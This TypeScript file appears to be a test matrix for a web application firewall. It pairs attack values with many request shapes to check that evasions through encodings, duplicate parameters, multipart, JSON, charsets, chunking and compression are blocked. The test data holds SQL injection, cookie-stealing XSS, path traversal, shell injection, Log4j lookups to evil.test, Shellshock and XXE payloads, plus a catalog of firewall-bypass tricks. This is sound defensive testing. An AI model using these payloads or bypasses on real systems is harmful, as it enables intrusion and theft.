/**
 * The matrix: each way around a firewall that is known of, as a request in which a value stands somewhere.
 * With an attack it must end at the gate; with a harmless value it must come through, byte by byte,
 * unless the shape itself can be read in two ways: then it is refused either way.
 *
 * Over 300 lines because it is one table.
 */
import { deflateSync, gzipSync } from 'node:zlib';
import {
  chunked,
  escaped,
  escapedAll,
  escapedU,
  FORM,
  fullWidth,
  get,
  htmlEscapes,
  JSON_TYPE,
  MULTIPART,
  mixedCase,
  multipart,
  NAME,
  overlong,
  part,
  post,
  unicodeEscapes,
  utf8,
  utf16,
} from './shapes.ts';

export const SQLI = "1' UNION SELECT password FROM users-- ";
const XSS = '<script>alert(document.cookie)</script>';
const FILE = '../../../../etc/passwd';

export interface Row {
  readonly name: string;
  /** The request with a value in it. */
  readonly shape: (value: string) => string;
  readonly attack: string;
  /** Comes through in the same shape; null: the shape is refused, whatever is in it. */
  readonly benign: string | null;
}

const row = (
  name: string,
  attack: string,
  shape: Row['shape'],
  benign: string | null = 'blue',
): Row => ({ name, attack, shape, benign });
/** A shape that is refused whatever is in it. */
const never = (name: string, attack: string, shape: Row['shape']): Row =>
  row(name, attack, shape, null);

const latin1 = (bytes: Buffer): string => bytes.toString('latin1');
const chunk = (text: string, extension = ''): string =>
  `${text.length.toString(16)}${extension}\r\n${text}\r\n`;
/** A chunk for each byte. */
const bytewise = (text: string): string => Array.from(text, (c) => chunk(c)).join('');
const LAST = '0\r\n\r\n';
const form = (body: string, lines = ''): string => post(FORM, body, lines);
const json = (body: string, type = JSON_TYPE): string => post(type, body);
const parts = (...all: readonly string[]): string => post(MULTIPART, multipart(...all));
const text = (value: string): string => JSON.stringify(value);

export const ENCODINGS: readonly Row[] = [
  row('plain, in the query', SQLI, (v) => get(`/?q=${escaped(v)}`)),
  row('plain, in a form', XSS, (v) => form(`q=${escaped(v)}`)),
  row('every byte escaped', SQLI, (v) => get(`/?q=${escapedAll(v)}`)),
  row('escaped twice', SQLI, (v) => get(`/?q=${escaped(escaped(v))}`)),
  row('escaped twice in a form', XSS, (v) => form(`q=${escaped(escapedAll(v))}`), ''),
  row('%uXXXX', XSS, (v) => get(`/?q=${escapedU(v)}`)),
  row('%uXXXX in a form', XSS, (v) => form(`q=${escapedU(v)}`)),
  row('letters of double width', XSS, (v) => get(`/?q=${fullWidth(v)}`), ''),
  row('%uffXX', XSS, (v) => get(`/?q=${v.replaceAll('<', '%uff1c').replaceAll('>', '%uff1e')}`)),
  row('overlong UTF-8', FILE, (v) => get(`/?q=${overlong(v)}`), ''),
  row('overlong dots', FILE, (v) => get(`/?q=${v.replaceAll('../', '%c0%ae%c0%ae%c0%af')}`)),
  row('mixed case', SQLI, (v) => get(`/?q=${escaped(mixedCase(v))}`)),
  row('mixed case of HTML', XSS, (v) => form(`q=${escaped(mixedCase(v))}`)),
  row('a null byte before it', SQLI, (v) => get(`/?q=%00${escaped(v)}`), null),
  row('null bytes inside', XSS, (v) => get(`/?q=${escaped(v).replaceAll('r', 'r%00')}`)),
  row('comments of SQL', SQLI, (v) => get(`/?q=${escaped(v.replaceAll(' ', '/**/'))}`)),
  row('comments that MySQL runs', "1'/*!50000UNION*//*!SELECT*/1,2-- ", (v) =>
    get(`/?q=${escaped(v)}`),
  ),
  row('tabs and line ends for blanks', SQLI, (v) =>
    get(`/?q=${escaped(v.replaceAll(' ', '\t\n'))}`),
  ),
  row('no-break spaces', SQLI, (v) => get(`/?q=${escaped(v.replaceAll(' ', '\xa0'))}`)),
  row('plus signs', SQLI, (v) => get(`/?q=${v.replaceAll(' ', '+').replaceAll("'", '%27')}`)),
  row('entities of HTML', XSS, (v) => form(`q=${escaped(htmlEscapes(v))}`)),
  row('escapes of JavaScript', XSS, (v) => form(`q=${escaped(unicodeEscapes(v))}`), ''),
  row('base64 in a PHP wrapper', 'php://filter/convert.base64-encode/resource=index.php', (v) =>
    get(`/?q=${escaped(v)}`),
  ),
  row('a shell with quotes', ";c'a't /e't'c/pa'ss'wd", (v) => get(`/?q=${escaped(v)}`)),
  row('a shell with backslashes', ';c\\at /et\\c/pass\\wd', (v) => get(`/?q=${escaped(v)}`)),
  row('a shell with $IFS', ';cat$IFS/etc/passwd', (v) => get(`/?q=${escaped(v)}`)),
  row('a shell with globs', ';/bin/c?t /etc/passwd', (v) => get(`/?q=${escaped(v)}`)),
  row('an event handler', '<svg/onload=alert(1)>', (v) => form(`q=${escaped(v)}`)),
  row('a link that runs', 'javascript:alert(1)', (v) =>
    form(`q=${escaped(`<a href="${v}">x</a>`)}`),
  ),
  row('Log4j', '${jndi:ldap://evil.test/a}', (v) => get(`/?q=${escaped(v)}`)),
  row('Log4j in pieces', '${${lower:j}ndi:${lower:l}dap://evil.test/a}', (v) =>
    get(`/?q=${escaped(v)}`),
  ),
];

export const PARAMETERS: readonly Row[] = [
  row('the first of two', SQLI, (v) => get(`/?q=${escaped(v)}&q=1`)),
  row('the last of two', SQLI, (v) => get(`/?q=1&q=${escaped(v)}`)),
  row('in the query and the form, bad query', SQLI, (v) =>
    form('q=1').replace('/order', `/order?q=${escaped(v)}`),
  ),
  row('in the query and the form, bad form', SQLI, (v) =>
    form(`q=${escaped(v)}`).replace('/order', '/order?q=1'),
  ),
  row('with brackets', SQLI, (v) => get(`/?q[]=1&q[]=${escaped(v)}`)),
  row('behind a semicolon', XSS, (v) => get(`/?a=1;q=${escaped(v)}`)),
  row('the name itself', XSS, (v) => get(`/?${escaped(v)}=1`)),
  row('a name without a value', XSS, (v) => get(`/?${escaped(v)}`)),
  row('no name', XSS, (v) => get(`/?=${escaped(v)}`)),
  row('an escaped name', SQLI, (v) => get(`/?%71=${escaped(v)}`)),
  row('a blank before the name', SQLI, (v) => get(`/?%20q=${escaped(v)}`)),
  row('two question marks', SQLI, (v) => get(`/??q=${escaped(v)}`)),
  row('behind many others', SQLI, (v) => form(`${'a=1&'.repeat(200)}q=${escaped(v)}`)),
  never('behind more than are looked at', SQLI, (v) =>
    form(`${'a=1&'.repeat(1500)}q=${escaped(v)}`),
  ),
  row('in the query, behind more than are looked at', XSS, (v) =>
    get(`/?${'a&'.repeat(1200)}q=${escaped(v)}`),
  ),
  row('split over two of one name', SQLI, (v) =>
    form(`q=${escaped(v.slice(0, 30))}&q=${escaped(v.slice(30))}`),
  ),
  row('an escaped ampersand', XSS, (v) => get(`/?q=1%26x=${escaped(v)}`)),
  row('a bad escape before it', XSS, (v) => get(`/?q=%zz${escaped(v)}`)),
  row('half an escape at its end', XSS, (v) => get(`/?q=${escaped(v)}%2`)),
];

export const MULTIPARTS: readonly Row[] = [
  row('plain', SQLI, (v) => parts(part(v))),
  row('the first part of two', XSS, (v) => parts(part(v), part('1'))),
  row('the last part of two', XSS, (v) => parts(part('1'), part(v, NAME.replace('note', 'b')))),
  row('the name', XSS, (v) => parts(part('1', NAME.replace('note', v)))),
  row('the file name', FILE, (v) => parts(part('1', `${NAME}; filename="${v}"`))),
  row(
    'a script as file name',
    'shell.php',
    (v) => parts(part('1', `${NAME}; filename="${v}"`)),
    'a.png',
  ),
  row(
    'a script as a file name in single quotes',
    "x.png'; filename='shell.php",
    (v) => parts(part('1', `${NAME}; filename='${v}'`)),
    null,
  ),
  never('file name in extended form', 'shell.php', (v) =>
    parts(part('1', `${NAME}; filename="a.png"; filename*=utf-8''${v}`)),
  ),
  never('only the extended file name', 'shell.php', (v) =>
    parts(part('1', `${NAME}; filename*=utf-8''${v}`)),
  ),
  never('two file names', 'shell.php', (v) =>
    parts(part('1', `${NAME}; filename="a.png"; filename="${v}"`)),
  ),
  row(
    'a file name that is continued',
    'shell.php',
    (v) => parts(part('1', `${NAME}; filename*0="a"; filename*1="${v}"`)),
    null,
  ),
  row('names without quotes', SQLI, (v) =>
    parts(part(v, 'Content-Disposition: form-data; name=note')),
  ),
  row('names in odd case', SQLI, (v) => parts(part(v, NAME.replace('name', 'NaMe')))),
  row('a disposition in odd case', SQLI, (v) =>
    parts(part(v, NAME.replace('Content-D', 'cOnTeNt-d'))),
  ),
  never('two dispositions', SQLI, (v) => parts(part(v, `${NAME}; filename="a.png"\r\n${NAME}`))),
  never('a disposition that is folded', SQLI, (v) => parts(part(v, NAME.replace('; ', ';\r\n ')))),
  never('no disposition', SQLI, (v) => parts(part(v, 'X-A: b'))),
  never('attachment instead of form-data', SQLI, (v) =>
    parts(part(v, NAME.replace('form-data', 'attachment'))),
  ),
  never('a blank before the colon', SQLI, (v) =>
    parts(part(v, NAME.replace('Disposition:', 'Disposition :'))),
  ),
  never('LF for CRLF', XSS, (v) => post(MULTIPART, multipart(part(v)).replaceAll('\r\n', '\n'))),
  never('LF in the head of a part', XSS, (v) => parts(part(v, `${NAME}\nX-A: b`))),
  never('CR alone', XSS, (v) => post(MULTIPART, multipart(part(v)).replaceAll('\r\n', '\r'))),
  never('two boundaries, the first', XSS, (v) =>
    post(`${MULTIPART}; boundary=Other`, multipart(part(v))),
  ),
  never('two boundaries, the second', XSS, (v) =>
    post(MULTIPART.replace(';', '; boundary=Other;'), multipart(part(v))),
  ),
  row('a quoted boundary', XSS, (v) =>
    post(MULTIPART.replace('BoundaryXyz', '"BoundaryXyz"'), multipart(part(v))),
  ),
  row('a boundary in odd case', XSS, (v) =>
    post(MULTIPART.replace('boundary', 'BoUnDaRy'), multipart(part(v))),
  ),
  never('a continued boundary', XSS, (v) =>
    post('multipart/form-data; boundary*0=Boundary; boundary*1=Xyz', multipart(part(v))),
  ),
  never('an extended boundary', XSS, (v) =>
    post("multipart/form-data; boundary*=utf-8''BoundaryXyz", multipart(part(v))),
  ),
  never('blanks in the boundary', XSS, (v) =>
    post(MULTIPART.replace('BoundaryXyz', '" BoundaryXyz"'), multipart(part(v))),
  ),
  never('blanks behind the delimiter', XSS, (v) =>
    post(MULTIPART, multipart(part(v)).replace('Xyz\r\n', 'Xyz \r\n')),
  ),
  never('a comma in the boundary', XSS, (v) =>
    post('multipart/form-data; boundary=BoundaryXyz,Other', multipart(part(v))),
  ),
  never('no boundary', XSS, (v) => post('multipart/form-data', multipart(part(v)))),
  never('no final boundary', XSS, (v) => post(MULTIPART, part(v))),
  never('another boundary than said', XSS, (v) =>
    post(MULTIPART, multipart(part(v)).replaceAll('Xyz', 'Abc')),
  ),
  never('a preamble', XSS, (v) => post(MULTIPART, `${v}\r\n${multipart(part('1'))}`)),
  never('an epilogue', XSS, (v) => post(MULTIPART, multipart(part('1')) + part(v))),
  never('a delimiter inside of a part', XSS, (v) =>
    parts(part(`1\r\n--BoundaryXyzA\r\n${NAME}\r\n\r\n${v}`)),
  ),
  never('base64', SQLI, (v) =>
    parts(part(btoa(v), `${NAME}\r\nContent-Transfer-Encoding: base64`)),
  ),
  never('quoted-printable', SQLI, (v) =>
    parts(part(v, `${NAME}\r\nContent-Transfer-Encoding: quoted-printable`)),
  ),
  never('a part in UTF-7', '+ADw-script+AD4-', (v) =>
    parts(part(v, `${NAME}\r\nContent-Type: text/plain; charset=utf-7`)),
  ),
  never('a part in UTF-16', XSS, (v) =>
    parts(part(utf16(v), `${NAME}\r\nContent-Type: text/plain; charset=utf-16`)),
  ),
  never('_charset_', '+ADw-script+AD4-', (v) =>
    parts(part('utf-7', NAME.replace('note', '_charset_')), part(v)),
  ),
  never('parts inside of a part', XSS, (v) =>
    parts(part(v, `${NAME}\r\nContent-Type: multipart/mixed; boundary=In`)),
  ),
  row('JSON in a part', SQLI, (v) =>
    parts(part(`{"a":${text(v)}}`, `${NAME}\r\nContent-Type: application/json`)),
  ),
  never('an empty file name', SQLI, (v) => parts(part(v, `${NAME}; filename=""`))),
  never('multipart of another kind', XSS, (v) =>
    post(MULTIPART.replace('form-data', 'mixed'), multipart(part(v))),
  ),
];

export const JSONS: readonly Row[] = [
  row('plain', SQLI, (v) => json(`{"q":${text(v)}}`)),
  row('a string alone', SQLI, (v) => json(text(v))),
  row('escapes', XSS, (v) => json(`{"q":"${unicodeEscapes(v)}"}`)),
  row('an escaped key', SQLI, (v) => json(`{"\\u0071":${text(v)}}`)),
  row('a key', XSS, (v) => json(`{${text(v)}:1}`)),
  never('a key twice, first', SQLI, (v) => json(`{"q":${text(v)},"q":1}`)),
  never('a key twice, last', SQLI, (v) => json(`{"q":1,"q":${text(v)}}`)),
  never('a key twice, once escaped', SQLI, (v) => json(`{"q":1,"\\u0071":${text(v)}}`)),
  row('a byte order mark', SQLI, (v) => json(`\xef\xbb\xbf{"q":${text(v)}}`)),
  row('in an array', SQLI, (v) => json(`[1,[2,[${text(v)}]]]`)),
  row('nested 50 deep', SQLI, (v) => json(`${'['.repeat(50)}${text(v)}${']'.repeat(50)}`)),
  never('nested 500 deep', SQLI, (v) => json(`${'['.repeat(500)}${text(v)}${']'.repeat(500)}`)),
  never('comments', SQLI, (v) => json(`{/*x*/"q":${text(v)}}`)),
  never('a line comment', SQLI, (v) => json(`{"a":1 // ,\n,"q":${text(v)}}`)),
  never('single quotes', XSS, (v) => json(`{'q':'${v}'}`)),
  never('a trailing comma', SQLI, (v) => json(`{"q":${text(v)},}`)),
  never('something behind it', SQLI, (v) => json(`{} {"q":${text(v)}}`)),
  never('two values in lines', SQLI, (v) => json(`{"q":1}\n{"q":${text(v)}}`)),
  never('a raw line end in a string', XSS, (v) => json(`{"q":"\n${v}"}`)),
  never('half a surrogate', XSS, (v) => json(`{"q":"\\ud800${v}"}`)),
  never('an escape that is none', XSS, (v) => json(`{"q":"\\q${v}"}`)),
  never('UTF-16', SQLI, (v) => json(utf16(`{"q":${text(v)}}`))),
  never('UTF-16 with its charset', SQLI, (v) =>
    json(utf16(`{"q":${text(v)}}`), `${JSON_TYPE}; charset=utf-16`),
  ),
  never('no UTF-8', XSS, (v) => json(`{"q":"\xff${v}"}`)),
  row('no UTF-8 but Latin 1 in UTF-8', XSS, (v) => json(utf8(`{"q":"é${v}"}`))),
  never('NaN', SQLI, (v) => json(`{"a":NaN,"q":${text(v)}}`)),
  never('a hexadecimal number', SQLI, (v) => json(`{"a":0x10,"q":${text(v)}}`)),
  row('an open end', SQLI, (v) => json(`{"a":[{"q":${text(v)}`)),
  row('a form announced as JSON', SQLI, (v) => json(`q=${escaped(v)}`), null),
  row('__proto__', SQLI, (v) => json(`{"__proto__":{"q":${text(v)}}}`), null),
  row('of another type: +json', SQLI, (v) => json(`{"q":${text(v)}}`, 'application/vnd.api+json')),
  row('of another type: text/plain', SQLI, (v) => json(`{"q":${text(v)}}`, 'text/plain')),
  row('of another type: text/json', SQLI, (v) => json(`{"q":${text(v)}}`, 'text/json')),
  never('of no type', SQLI, (v) => json(`{"q":${text(v)}}`, '')),
  row('as a form', SQLI, (v) => json(`{"q":${text(v)}}`, FORM)),
  row('behind 60 KB of blanks', SQLI, (v) => json(`{${' '.repeat(60_000)}"q":${text(v)}}`)),
  row('behind 50 KB in other keys', SQLI, (v) =>
    json(
      `{${Array.from({ length: 700 }, (_, i) => `"k${i}":"${'x'.repeat(60)}",`).join('')}"q":${text(v)}}`,
    ),
  ),
  never('behind 70 KB in the same string', SQLI, (v) =>
    json(`{"q":${text('x'.repeat(70_000) + v)}}`),
  ),
];

export const TYPES: readonly Row[] = [
  never('ibm037', XSS, (v) => post(`${FORM}; charset=ibm037`, `q=${escaped(v)}`)),
  never('UTF-16', XSS, (v) => post(`${FORM}; charset=utf-16`, utf16(`q=${v}`))),
  never('UTF-7', '+ADw-script+AD4-alert(1)', (v) => post(`${FORM}; charset=utf-7`, `q=${v}`)),
  never('UTF-32', XSS, (v) => post(`${FORM}; charset=utf-32`, `q=${escaped(v)}`)),
  never('Shift_JIS', XSS, (v) => post(`${FORM}; charset=shift_jis`, `q=%81${escaped(v)}`)),
  never('a charset twice', XSS, (v) =>
    post(`${FORM}; charset=utf-8; charset=utf-7`, `q=${escaped(v)}`),
  ),
  never('a charset in quotes and odd case', XSS, (v) =>
    post(`${FORM}; ChArSeT="iBm037"`, `q=${escaped(v)}`),
  ),
  row('UTF-8', XSS, (v) => post(`${FORM}; charset=utf-8`, `q=${escaped(v)}`)),
  row('Latin 1', XSS, (v) => post(`${FORM}; charset=iso-8859-1`, `q=${escaped(v)}`)),
  row('odd case', XSS, (v) => post('Application/X-WWW-Form-URLEncoded', `q=${escaped(v)}`)),
  row('a blank before the semicolon', XSS, (v) =>
    post(`${FORM} ;charset=utf-8`, `q=${escaped(v)}`),
  ),
  row('a parameter without a value', XSS, (v) => post(`${FORM};x`, `q=${escaped(v)}`), null),
  row(
    'a parameter without a value, of JSON',
    SQLI,
    (v) => json(`{"q":${text(v)}}`, `${JSON_TYPE};x`),
    null,
  ),
  never('two fields, form first', XSS, (v) =>
    post(FORM, `q=${escaped(v)}`, 'Content-Type: text/plain\r\n'),
  ),
  never('two fields, form last', XSS, (v) =>
    post('text/plain', `q=${escaped(v)}`, `Content-Type: ${FORM}\r\n`),
  ),
  never('a list', XSS, (v) => post(`text/plain, ${FORM}`, `q=${escaped(v)}`)),
  never('a list, form first', XSS, (v) => post(`${FORM}, text/plain`, `q=${escaped(v)}`)),
  row('unknown', XSS, (v) => post('application/x-unknown', `q=${escaped(v)}`), null),
  row('text/plain', XSS, (v) => post('text/plain', `q=${v}`)),
  row('an octet stream', XSS, (v) => post('application/octet-stream', `q=${v}`), null),
  never('none', XSS, (v) => post('', `q=${escaped(v)}`)),
  never('none, and multipart', XSS, (v) => post('', multipart(part(v)))),
  row('an empty one', XSS, (v) => form(`q=${escaped(v)}`).replace(FORM, ''), null),
  never('no subtype', XSS, (v) => post('form', `q=${escaped(v)}`)),
  never('a blank inside', XSS, (v) =>
    post('application /x-www-form-urlencoded', `q=${escaped(v)}`),
  ),
  row('XML', XSS, (v) => post('text/xml', `<a>${v.replaceAll('<', '&lt;')}</a>`)),
  row('XML, in CDATA', XSS, (v) => post('text/xml', `<a><![CDATA[${v}]]></a>`)),
  row('XML, an attribute', SQLI, (v) => post('text/xml', `<a b="${v}"/>`)),
  never('XML with an entity', 'file:///etc/passwd', (v) =>
    post('text/xml', `<!DOCTYPE a [<!ENTITY b SYSTEM "${v}">]><a>&b;</a>`),
  ),
  never('XML in UTF-7', '+ADw-script+AD4-', (v) =>
    post('text/xml', `<?xml version="1.0" encoding="UTF-7"?><a>${v}</a>`),
  ),
];

export const FRAMING: readonly Row[] = [
  row('one chunk', SQLI, (v) => chunked(FORM, chunk(`q=${escaped(v)}`) + LAST)),
  row('a chunk a byte', SQLI, (v) => chunked(FORM, bytewise(`q=${escaped(v)}`) + LAST)),
  ...[3, 7, 12, 20].map((at) =>
    row(
      `chunks cut at ${at}`,
      SQLI,
      (v) => {
        const body = `q=${escaped(v)}`;
        return chunked(FORM, chunk(body.slice(0, at)) + chunk(body.slice(at)) + LAST);
      },
      'blue and some more of it',
    ),
  ),
  row('chunk extensions', SQLI, (v) => chunked(FORM, chunk(`q=${escaped(v)}`, ';a=b') + LAST)),
  row('JSON in chunks', SQLI, (v) => chunked(JSON_TYPE, bytewise(`{"q":${text(v)}}`) + LAST)),
  row('multipart in chunks', XSS, (v) => chunked(MULTIPART, bytewise(multipart(part(v))) + LAST)),
  never('trailers that say what it is', SQLI, (v) =>
    chunked('text/csv', `${chunk(`q=${escaped(v)}`)}0\r\nContent-Type: ${FORM}\r\n\r\n`),
  ),
  never('chunks and a length', SQLI, (v) =>
    chunked(FORM, chunk(`q=${escaped(v)}`) + LAST, 'Content-Length: 5\r\n'),
  ),
  never('two lengths', SQLI, (v) => form(`q=${escaped(v)}`, 'Content-Length: 3\r\n')),
  never('a coding that is none', SQLI, (v) =>
    chunked(FORM, chunk(`q=${escaped(v)}`) + LAST).replace('chunked', 'xchunked'),
  ),
  never('chunked twice', SQLI, (v) =>
    chunked(FORM, chunk(`q=${escaped(v)}`) + LAST, 'Transfer-Encoding: chunked\r\n'),
  ),
  never('a transfer coding before it', SQLI, (v) =>
    chunked(FORM, chunk(`q=${escaped(v)}`) + LAST).replace('chunked', 'gzip, chunked'),
  ),
  never('LF for CRLF behind a chunk’s size', SQLI, (v) =>
    chunked(FORM, `${(v.length + 2).toString(16)}\nq=${v}\r\n${LAST}`),
  ),
  row('a body of GET', SQLI, (v) => form(`q=${escaped(v)}`).replace('POST', 'GET'), null),
  row('a body of DELETE', SQLI, (v) => form(`q=${escaped(v)}`).replace('POST', 'DELETE')),
  row('a body of PUT', SQLI, (v) => form(`q=${escaped(v)}`).replace('POST', 'PUT')),
  row('it waits to be asked', SQLI, (v) => form(`q=${escaped(v)}`, 'Expect: 100-continue\r\n')),
  row('HTTP/1.0', SQLI, (v) => get(`/?q=${escaped(v)}`).replace('HTTP/1.1', 'HTTP/1.0')),
  row('a form by HTTP/1.0', SQLI, (v) => form(`q=${escaped(v)}`).replace('HTTP/1.1', 'HTTP/1.0')),
  never('chunks by HTTP/1.0', SQLI, (v) =>
    chunked(FORM, chunk(`q=${escaped(v)}`) + LAST).replace('HTTP/1.1', 'HTTP/1.0'),
  ),
  row(
    'another method by a field',
    SQLI,
    (v) => form(`q=${escaped(v)}`, 'X-HTTP-Method-Override: PUT\r\n'),
    null,
  ),
  never('a method in small letters', SQLI, (v) => get(`/?q=${escaped(v)}`).replace('GET', 'get')),
];

export const CODINGS: readonly Row[] = [
  row('gzip', SQLI, (v) => form(latin1(gzipSync(`q=${escaped(v)}`)), 'Content-Encoding: gzip\r\n')),
  row('x-gzip', SQLI, (v) =>
    form(latin1(gzipSync(`q=${escaped(v)}`)), 'Content-Encoding: x-gzip\r\n'),
  ),
  row('GZIP in odd case', SQLI, (v) =>
    form(latin1(gzipSync(`q=${escaped(v)}`)), 'Content-Encoding: GziP\r\n'),
  ),
  row('deflate', SQLI, (v) =>
    form(latin1(deflateSync(`q=${escaped(v)}`)), 'Content-Encoding: deflate\r\n'),
  ),
  row('gzip of JSON', SQLI, (v) =>
    post(JSON_TYPE, latin1(gzipSync(`{"q":${text(v)}}`)), 'Content-Encoding: gzip\r\n'),
  ),
  row('gzip of a long form', SQLI, (v) =>
    form(latin1(gzipSync(`a=${'xy '.repeat(5000)}&q=${escaped(v)}`)), 'Content-Encoding: gzip\r\n'),
  ),
  row('gzip in chunks', SQLI, (v) =>
    chunked(FORM, chunk(latin1(gzipSync(`q=${escaped(v)}`))) + LAST, 'Content-Encoding: gzip\r\n'),
  ),
  row('identity', SQLI, (v) => form(`q=${escaped(v)}`, 'Content-Encoding: identity\r\n')),
  never('a bomb', SQLI, (v) =>
    form(latin1(gzipSync(`q=${escaped(v)}${'x'.repeat(5_000_000)}`)), 'Content-Encoding: gzip\r\n'),
  ),
  never('two members', SQLI, (v) =>
    form(
      latin1(Buffer.concat([gzipSync('a=1'), gzipSync(`&q=${escaped(v)}`)])),
      'Content-Encoding: gzip\r\n',
    ),
  ),
  never('bytes behind the stream', SQLI, (v) =>
    form(`${latin1(gzipSync('a=1'))}&q=${escaped(v)}`, 'Content-Encoding: gzip\r\n'),
  ),
  never('a stream cut short', SQLI, (v) =>
    form(latin1(gzipSync(`q=${escaped(v)}`)).slice(0, -6), 'Content-Encoding: gzip\r\n'),
  ),
  never('no stream at all', SQLI, (v) => form(`q=${escaped(v)}`, 'Content-Encoding: gzip\r\n')),
  never('br', SQLI, (v) => form(`q=${escaped(v)}`, 'Content-Encoding: br\r\n')),
  never('a coding that nobody knows', SQLI, (v) =>
    form(`q=${escaped(v)}`, 'Content-Encoding: x\r\n'),
  ),
  never('gzip twice', SQLI, (v) =>
    form(latin1(gzipSync(gzipSync(`q=${escaped(v)}`))), 'Content-Encoding: gzip, gzip\r\n'),
  ),
  never('two fields, identity first', SQLI, (v) =>
    form(
      latin1(gzipSync(`q=${escaped(v)}`)),
      'Content-Encoding: identity\r\nContent-Encoding: gzip\r\n',
    ),
  ),
  never('two fields, an empty one first', SQLI, (v) =>
    form(latin1(gzipSync(`q=${escaped(v)}`)), 'Content-Encoding:\r\nContent-Encoding: gzip\r\n'),
  ),
];

export const HEADERS: readonly Row[] = [
  row('a cookie', SQLI, (v) => get('/', `Cookie: a=1; b=${v}\r\n`)),
  row('a cookie, escaped', XSS, (v) => get('/', `Cookie: a=${escaped(v)}\r\n`)),
  row('a cookie’s name', XSS, (v) => get('/', `Cookie: ${v}=1\r\n`)),
  row('two cookies of one name', SQLI, (v) => get('/', `Cookie: a=1; a=${v}\r\n`)),
  row('two lines of cookies, the first', SQLI, (v) =>
    get('/', `Cookie: a=${v}\r\nCookie: b=1\r\n`),
  ),
  row('two lines of cookies, the second', SQLI, (v) =>
    get('/', `Cookie: a=1\r\nCookie: b=${v}\r\n`),
  ),
  row('a quoted cookie', SQLI, (v) => get('/', `Cookie: a="1; ${v}"\r\n`)),
  row('a cookie with a comma', XSS, (v) => get('/', `Cookie: a=1, b=${v}\r\n`)),
  row('$Version cookies', XSS, (v) => get('/', `Cookie: $Version=1; a=${v}\r\n`), null),
  row('User-Agent', '${jndi:ldap://evil.test/a}', (v) => get('/', `X-A: ${v}\r\n`)),
  row('Shellshock', '() { :;}; /bin/bash -c id', (v) => get('/', `X-A: ${v}\r\n`)),
  row('Referer', XSS, (v) => get('/', `Referer: http://a.test/?q=${v}\r\n`)),
  row(
    'User-Agent of a scanner',
    'sqlmap/1.8',
    (v) => get('/').replace('Mozilla/5.0', v),
    'Mozilla/5.0 (X11)',
  ),
  row('X-Forwarded-Host', '${jndi:ldap://evil.test/a}', (v) => get('/', `X-Up: ${v}\r\n`)),
  never('a folded line', SQLI, (v) => get('/', `Cookie: a=1;\r\n b=${v}\r\n`)),
  never('a blank before the colon', SQLI, (v) => get('/', `Cookie : b=${v}\r\n`)),
  never('a bare LF', SQLI, (v) => get('/', `X: 1\nCookie: b=${v}\r\n`)),
  never('NUL', SQLI, (v) => get('/', `Cookie: a=\0${v}\r\n`)),
];

export const PATHS: readonly Row[] = [
  row('the path', XSS, (v) => get(`/a/${escaped(v)}`)),
  row('a file in the path', '/.env', (v) => get(v), '/blue'),
  row('double slashes', '/.git/config', (v) => get(`/${v}`), '/blue'),
  row('/./', '/.git/config', (v) => get(`/.${v}`), '/blue'),
  row('traversal', '/../../../../etc/passwd', (v) => get(`/a${v}`), '/blue'),
  row('traversal, escaped', '/%2e%2e/%2e%2e/%2e%2e/etc/passwd', (v) => get(`/a${v}`), '/blue'),
  row('traversal, slashes escaped', '/..%2f..%2f..%2fetc%2fpasswd', (v) => get(`/a${v}`), '/blue'),
  row('traversal, escaped twice', '/%252e%252e%252fetc%252fpasswd', (v) => get(`/a${v}`), '/blue'),
  row('backslashes', '/..\\..\\..\\windows\\win.ini', (v) => get(`/a${v}`), '/blue'),
  row('backslashes, escaped', '/..%5c..%5c..%5cwindows%5cwin.ini', (v) => get(`/a${v}`), '/blue'),
  row('parameters of a segment', '/..;/..;/etc/passwd', (v) => get(`/a${v}`), '/blue;v=1'),
  row('an attack in such a parameter', XSS, (v) => get(`/a;q=${escaped(v)}/b`)),
  row('absolute form', SQLI, (v) => get(`http://shop.test/?q=${escaped(v)}`)),
  row('absolute form, a path', '/.git/config', (v) => get(`http://shop.test${v}`), '/blue'),
  row('a fragment', SQLI, (v) => get(`/#?q=${escaped(v)}`), null),
  row('no slash before the query', SQLI, (v) => get(`?q=${escaped(v)}`), null),
  row('a raw byte above ASCII', XSS, (v) => get(`/\xe9?q=${escaped(v)}`), null),
  row('a backup', '/index.php.bak', (v) => get(v), '/index'),
];

/** Judged beside the loop: the same attacks behind enough other things. */
export const LONG: readonly Row[] = [
  row('a form of 20 KB', SQLI, (v) => form(`${'a=some+text&'.repeat(900)}q=${escaped(v)}`), 'blue'),
  row('a form of 100 KB', SQLI, (v) =>
    form(`a=${'some+text+'.repeat(6000)}&b=${'or+other+'.repeat(5000)}&q=${escaped(v)}`),
  ),
  row('JSON of 20 KB', SQLI, (v) =>
    json(
      `[${Array.from({ length: 400 }, (_, i) => `{"id":${i},"name":"a product that is sold"}`).join(',')},${text(v)}]`,
    ),
  ),
  row('multipart of 20 KB', XSS, (v) =>
    parts(
      part('x'.repeat(20_000), `${NAME}; filename="a.png"`),
      part(v, NAME.replace('note', 'b')),
    ),
  ),
  row('XML of 20 KB', XSS, (v) =>
    post('text/xml', `<a>${'<b>text</b>'.repeat(2000)}<c><![CDATA[${v}]]></c></a>`),
  ),
  row('a chosen reader: JSON of an odd type', SQLI, (v) =>
    post('text/plain', `{"a":"${'x'.repeat(12_000)}","q":${text(v)}}`),
  ),
  never('a key twice', SQLI, (v) => json(`{"q":1,"a":"${'x'.repeat(12_000)}","q":${text(v)}}`)),
];
